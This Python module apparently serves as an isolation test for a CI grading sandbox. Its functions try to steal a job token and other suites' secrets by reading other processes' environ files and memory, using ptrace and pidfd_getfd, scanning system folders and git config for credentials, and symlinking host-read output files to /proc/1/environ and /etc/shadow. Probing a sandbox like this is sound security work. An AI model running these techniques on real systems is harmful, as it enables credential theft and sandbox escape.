"""Attempts to read the job's token and other suites' secrets."""

from __future__ import annotations

import ctypes
import os
import re
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

from harness import LOG, attempt, find_secret, first_success, neighbours

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
PIDFD_OPEN, PIDFD_GETFD = 434, 438
GOAL = "token"


class Vector(ctypes.Structure):
    """`struct iovec`."""

    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def _of_neighbours(name: str) -> list[Path]:
    return [Path(f"/proc/{pid}/{name}") for pid in neighbours()]


@attempt(GOAL)
def own_environment() -> object:
    return find_secret(b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()))


@attempt(GOAL)
def own_environment_at_start() -> object:
    return find_secret(Path("/proc/self/environ").read_bytes())


@attempt(GOAL)
def environment_of_process_1() -> object:
    return find_secret(Path("/proc/1/environ").read_bytes())


@attempt(GOAL)
def environment_of_others() -> object:
    return first_success(
        _of_neighbours("environ"), lambda path: path.read_bytes() and (path.parent / "cmdline").read_bytes()
    )


@attempt(GOAL)
def environment_of_threads() -> object:
    paths = [path for pid in neighbours() for path in Path(f"/proc/{pid}/task").glob("*/environ")]
    return first_success(paths, lambda path: bool(path.read_bytes()))


@attempt(GOAL)
def command_lines() -> object:
    return first_success(_of_neighbours("cmdline"), lambda path: find_secret(path.read_bytes()))


def _regions(pid: int) -> Iterator[tuple[int, int]]:
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        if " rw" in line:
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            yield start, min(end, start + (1 << 24))


@attempt(GOAL)
def memory_by_proc() -> object:
    def read(path: Path) -> object:
        with path.open("rb", buffering=0) as memory:
            for start, end in _regions(int(path.parts[2])):
                memory.seek(start)
                if secret := find_secret(memory.read(end - start)):
                    return secret
        return None

    return first_success(_of_neighbours("mem"), read)


@attempt(GOAL)
def memory_by_process_vm_readv() -> object:
    buffer = ctypes.create_string_buffer(16)
    local = Vector(ctypes.cast(buffer, ctypes.c_void_p), 16)
    for pid in neighbours():
        for address in (0x400000, 0x555555554000, id(buffer)):
            remote = Vector(address, 16)
            if LIBC.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                return pid
            if ctypes.get_errno() == 14:  # EFAULT: only the address was wrong
                return f"{pid} may be read"
    return None


@attempt(GOAL)
def memory_maps() -> object:
    return first_success(_of_neighbours("maps"), lambda path: bool(path.read_bytes()))


@attempt(GOAL)
def ptrace_attach() -> object:
    for pid in neighbours():
        if LIBC.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            os.waitpid(pid, 0)
            LIBC.ptrace(PTRACE_DETACH, pid, None, None)
            return pid
    return None


@attempt(GOAL)
def ptrace_seize() -> object:
    return next((pid for pid in neighbours() if LIBC.ptrace(PTRACE_SEIZE, pid, None, None) == 0), None)


@attempt(GOAL)
def open_files_of_others() -> object:
    return next((pid for pid in neighbours() for _ in _listed(f"/proc/{pid}/fd")), None)


@attempt(GOAL)
def files_by_pidfd_getfd() -> object:
    for pid in neighbours():
        handle = LIBC.syscall(PIDFD_OPEN, pid, 0)
        if handle >= 0 and any(LIBC.syscall(PIDFD_GETFD, handle, number, 0) >= 0 for number in range(3)):
            return pid
    return None


@attempt(GOAL)
def roots_of_others() -> object:
    return next((pid for pid in neighbours() for _ in _listed(f"/proc/{pid}/root/")), None)


@attempt(GOAL)
def working_folders_of_others() -> object:
    return next((pid for pid in neighbours() if Path(f"/proc/{pid}/cwd").readlink()), None)


def _listed(folder: str) -> list[str]:
    try:
        return os.listdir(folder)  # noqa: PTH208
    except OSError:
        return []


@attempt(GOAL)
def secrets_in_files() -> object:
    places = ("/github", "/tmp", "/opt/scoregate-sdk", "/root", "/run", "/var", "/etc", "/home", "/dev/shm")

    def scan() -> Iterator[str]:
        for place in places:
            for folder, folders, names in os.walk(place):
                folders[:] = [name for name in folders if name not in ("workspace", "dpkg", "apt")]
                yield from (str(Path(folder, name)) for name in names)

    def read(path: Path) -> object:
        return path.is_file() and path.stat().st_size < 1 << 22 and find_secret(path.read_bytes())

    return first_success([Path(path) for path in scan()], read)


@attempt(GOAL)
def secrets_in_the_workspace() -> object:
    def read(path: Path) -> object:
        return path.is_file() and find_secret(path.read_bytes())

    return first_success([path for path in Path().rglob("*") if path.suffix != ".py" and path != LOG], read)


@attempt(GOAL)
def credentials_of_git() -> object:
    listing = subprocess.run(["git", "config", "--list"], capture_output=True, check=False).stdout
    return find_secret(listing) or re.search(rb"extraheader", listing)


@attempt(GOAL)
def kernel_memory() -> object:
    return first_success(
        [Path(f"/{name}") for name in ("proc/kcore", "dev/mem", "dev/kmem", "proc/kmsg")],
        lambda p: p.open("rb").read(1),
    )


@attempt(GOAL)
def container_sockets() -> object:
    paths = [path for place in ("/run", "/var/run") for path in Path(place).rglob("*.sock")]

    def connect(path: Path) -> object:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect(str(path))
            return "connected"

    return first_success(paths, connect)


@attempt(GOAL)
def link_of_an_event_log_to_a_secret() -> object:
    """The host would read it for us; the report must not have it."""
    for number, target in enumerate(("/proc/1/environ", "/proc/self/environ", "/etc/shadow")):
        (Path(os.environ["SCOREGATE_EVENTS"]) / f"link{number}.jsonl").symlink_to(target)


@attempt(GOAL)
def link_of_a_result_file_to_a_secret() -> object:
    Path("results.xml").unlink(missing_ok=True)
    Path("results.xml").symlink_to("/proc/1/environ")
